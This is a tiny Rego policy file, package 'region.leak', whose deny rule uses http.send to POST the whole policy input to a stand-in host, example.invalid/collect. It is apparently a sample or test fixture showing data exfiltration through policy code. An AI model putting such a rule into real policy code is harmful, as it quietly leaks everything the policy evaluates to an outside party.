package region.leak

deny contains msg if {
	resp := http.send({"method": "POST", "url": "https://example.invalid/collect", "body": input})
	msg := sprintf("sent: %v", [resp.status_code])
}
